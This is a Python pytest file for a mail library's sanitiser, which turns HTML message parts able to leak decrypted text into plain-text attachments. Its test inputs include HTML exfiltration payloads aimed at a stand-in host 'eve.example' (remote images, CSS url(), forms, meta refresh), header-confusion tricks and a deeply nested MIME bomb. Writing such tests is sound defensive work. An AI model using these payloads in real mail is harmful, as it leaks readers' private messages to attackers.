"""HTML that could send a text elsewhere, found and made harmless without touching its octets."""

import base64
import random

import pytest

from gatepost.mail.content import Octets, Rope, join
from gatepost.mime import active, entity
from gatepost.mime.active import MAXIMUM_SEARCHED, defused, defused_as_read

PARTS = (
    b"Content-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n"
    b"Content-Type: text/plain\r\n\r\nHi\r\n--b\r\n"
    b"Content-Type: %b\r\n%b\r\n%b\r\n--b--\r\n"
)


@pytest.mark.parametrize(
    "html",
    [
        b"<img src=http://eve.example/?",
        b"<IMG/SRC='//eve.example/",
        b"<p style='background:url(//eve.example)'>",
        b"<style>*{background:url(//eve.example)}</style>",
        b"<form action=//eve.example><textarea>",
        b"<script>x()</script>",
        b"<a href=mailto:x@example.org>",
        b"<meta http-equiv=refresh content='0;url=//eve.example'>",
        b"<svg/onload=x()>",
        b"<!--[if mso]><img src=//eve.example><![endif]-->",
        "<img src=//eve.example>".encode("utf-16"),
        b"<b\x0bsrc=x>",
    ],
)
@pytest.mark.parametrize("encoding", ["7bit", "base64"])
def test_what_acts_becomes_a_text_file(html: bytes, encoding: str) -> None:
    """A reader's program fetches a picture, and with it sends the decrypted text to Eve."""
    body = base64.b64encode(html) if encoding == "base64" else html
    field = b"Content-Transfer-Encoding: " + encoding.encode() + b"\r\n"
    before = PARTS % (b"text/html; charset=utf-8", field, body)
    after, count = active.defused(before)
    assert count == 1
    first, second = entity.parse(after).children
    assert first.content_type.essence == second.content_type.essence == "text/plain"
    assert b"attachment" in second.header
    assert second.body == entity.parse(before).children[1].body
    assert active.defused(after) == (after, 0)


@pytest.mark.parametrize(
    "html",
    [b"<html><body><p>Dear Alice &amp; Bob,<br/>1 &lt; 2</p></body></html>", b"no tags", b""],
)
def test_plain_html_stays(html: bytes) -> None:
    """Every mail of an old sender would arrive as an attachment."""
    before = PARTS % (b"text/html; charset=iso-8859-1", b"", html)
    assert active.defused(before) == (before, 0)


@pytest.mark.parametrize(
    ("kind", "fields"),
    [
        (b"text/plain\r\nContent-Type: text/html", b""),
        (b"text/html\r\nContent-Type: text/plain", b""),
        (b"text/html; charset=utf-7", b""),
        (b"text/html", b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n"),
        (b"image/svg+xml", b""),
        (b"message/external-body; access-type=url", b""),
        (b"message/rfc822", b"Content-Transfer-Encoding: base64\r\n"),
    ],
)
def test_what_could_be_read_in_two_ways_is_not_trusted(kind: bytes, fields: bytes) -> None:
    """Our parser sees harmless text where the reader's program sees a picture."""
    assert active.defused(PARTS % (kind, fields, b"PGI+aGk8L2I+"))[1] == 1


def test_parts_within_messages_and_the_message_itself() -> None:
    """The picture stands one level deeper than was looked."""
    html = b"Content-Type: text/html\r\n\r\n<img src=x>\r\n"
    after, count = active.defused(b"Content-Type: message/rfc822\r\n\r\n" + html)
    assert count == 1
    assert b"text/html" not in after
    assert active.defused(html)[0].endswith(b"\r\n\r\n<img src=x>\r\n")


def test_what_is_too_deep_to_look_through_is_no_mail_any_more() -> None:
    """Fifty-one levels of parts, and the innermost is not looked at."""
    bomb = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n) for n in range(60)
    )
    after, count = active.defused(bomb + b"Content-Type: text/html\r\n\r\n<img src=x>")
    assert count == 1
    assert entity.parse(after).content_type.essence == "text/plain"


def test_large_mail_is_made_harmless_as_small_is() -> None:
    """A gadget in a mail of many megabytes sends its text away all the same."""
    chance = random.Random(2018)
    kinds = [
        b"Content-Type: text/html; charset=utf-8\r\n",
        b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n",
        b"Content-Type: text/html\r\nContent-Type: text/plain\r\n",
        b"Content-Type: image/svg+xml\r\n",
        b"Content-Type: message/rfc822\r\n",
        b"Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n",
        b"Content-Type: multipart/mixed; boundary=b\r\n",
    ]
    bodies = [b"<p>text</p>", b"<img src=x>", b"PGltZyBzcmM9eD4=", b"text", b"\r\n--b--", b"\r\n"]
    for _ in range(500):
        octets = chance.choice(kinds[:1] + kinds[-1:] * 3) + b"\r\n"
        for _ in range(chance.randrange(8)):
            octets += b"\r\n--b\r\n" + chance.choice(kinds) + b"\r\n" + chance.choice(bodies)
        size = chance.randrange(1, 50)
        parts = (Octets(octets[at : at + size]) for at in range(0, len(octets), size))
        made, count = defused_as_read(Rope(tuple(parts)))
        assert (join(made), count) == defused(octets)


def test_large_mail_that_cannot_be_looked_through() -> None:
    """Too many parts, or too long a page: neither is rendered."""
    many = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\n" * 10_001
    made, count = defused_as_read(Octets(many))
    assert (join(made)[:24], count) == (b"Content-Type: text/plain", 1)
    long = b"Content-Type: text/html\r\n\r\n" + b"x" * (MAXIMUM_SEARCHED + 1)
    made, count = defused_as_read(Octets(long))
    assert (join(made)[:24], count) == (b"Content-Type: text/plain", 1)
